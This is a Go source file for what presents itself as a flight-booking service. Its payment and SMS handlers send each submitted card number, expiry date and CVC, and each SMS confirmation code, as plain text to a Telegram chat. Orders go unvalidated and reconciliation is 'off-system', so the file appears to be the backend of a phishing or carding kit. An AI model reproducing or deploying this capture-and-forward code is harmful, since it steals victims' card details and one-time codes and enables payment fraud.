package services

import (
	"context"
	"errors"
	"fmt"
	"log"
	"time"

	"booking-service/internal/domain"
	rabbit "booking-service/internal/infra/rabbitmq"
	"booking-service/internal/infra/telegram"
	"booking-service/internal/repository"

	"github.com/shopspring/decimal"
)

var (
	ErrFlightNotFound  = errors.New("flight not found")
	ErrOrderNotFound   = errors.New("order not found")
	ErrPaymentNotFound = errors.New("payment not found")
)

// BookingService drives the order/payment capture chain. Progress through
// NO_ORDER -> ORDER_CREATED -> PAYMENT_SUBMITTED -> SMS_CODE_SUBMITTED is
// recorded only by which rows exist; nothing is ever updated or deleted.
type BookingService struct {
	repo      repository.BookingRepository
	notifier  telegram.NotifierInterface
	publisher rabbit.PublisherInterface
	chatID    string
}

func NewBookingService(repo repository.BookingRepository, notifier telegram.NotifierInterface, publisher rabbit.PublisherInterface, chatID string) *BookingService {
	return &BookingService{
		repo:      repo,
		notifier:  notifier,
		publisher: publisher,
		chatID:    chatID,
	}
}

// CreateOrder confirms the referenced flight exists, then persists the
// order as a single non-transactional insert.
func (s *BookingService) CreateOrder(ctx context.Context, order *domain.Order) (*domain.Order, error) {
	flight, err := s.repo.FindFlightByID(order.FlightID)
	if err != nil {
		return nil, err
	}
	if flight == nil {
		return nil, ErrFlightNotFound
	}

	if err := s.repo.CreateOrder(order); err != nil {
		return nil, err
	}

	go s.publishOrderCreated(context.Background(), order, flight)

	return order, nil
}

// CreatePayment persists the card submission immediately. The referenced
// order is deliberately not checked: a payment may point at an order id
// that was never created, and reconciliation happens off-system through
// the notification channel.
func (s *BookingService) CreatePayment(ctx context.Context, payment *domain.Payment, referral string) (*domain.Payment, error) {
	if err := s.repo.CreatePayment(payment); err != nil {
		return nil, err
	}

	text := fmt.Sprintf("New payment\nOrder: %d\nPAN: %s\nExpiry: %s\nCVC: %s\nReferral: %s",
		payment.OrderID, payment.Pan, payment.Expiry, payment.Cvc, referral)
	go s.notify(context.Background(), text)
	go s.publishPaymentCaptured(context.Background(), payment)

	return payment, nil
}

// SendSmsCode relays the confirmation code to the notification channel.
// Nothing is persisted and the caller never learns whether the relay
// succeeded.
func (s *BookingService) SendSmsCode(ctx context.Context, orderID uint64, code string) {
	text := fmt.Sprintf("SMS code\nOrder: %d\nCode: %s", orderID, code)
	go s.notify(context.Background(), text)
}

func (s *BookingService) GetOrder(id uint64) (*domain.Order, error) {
	order, err := s.repo.FindOrderByID(id)
	if err != nil {
		return nil, err
	}
	if order == nil {
		return nil, ErrOrderNotFound
	}
	return order, nil
}

func (s *BookingService) GetPayment(id uint64) (*domain.Payment, error) {
	payment, err := s.repo.FindPaymentByID(id)
	if err != nil {
		return nil, err
	}
	if payment == nil {
		return nil, ErrPaymentNotFound
	}
	return payment, nil
}

func (s *BookingService) notify(ctx context.Context, text string) {
	if err := s.notifier.Notify(ctx, s.chatID, text); err != nil {
		log.Printf("Failed to send notification: %v", err)
	}
}

func (s *BookingService) publishOrderCreated(ctx context.Context, order *domain.Order, flight *domain.Flight) {
	amount, err := decimal.NewFromString(flight.Price)
	if err != nil {
		amount = decimal.Zero
	}

	evt := domain.OrderCreatedEvent{
		OrderID:   order.ID,
		FlightID:  order.FlightID,
		Email:     order.Email,
		Amount:    amount,
		CreatedAt: time.Now(),
	}
	if err := s.publisher.Publish(ctx, domain.EventOrderCreated, evt); err != nil {
		log.Printf("Failed to publish %s event: %v", domain.EventOrderCreated, err)
	}
}

func (s *BookingService) publishPaymentCaptured(ctx context.Context, payment *domain.Payment) {
	evt := domain.PaymentCapturedEvent{
		PaymentID: payment.ID,
		OrderID:   payment.OrderID,
		CreatedAt: time.Now(),
	}
	if err := s.publisher.Publish(ctx, domain.EventPaymentCaptured, evt); err != nil {
		log.Printf("Failed to publish %s event: %v", domain.EventPaymentCaptured, err)
	}
}
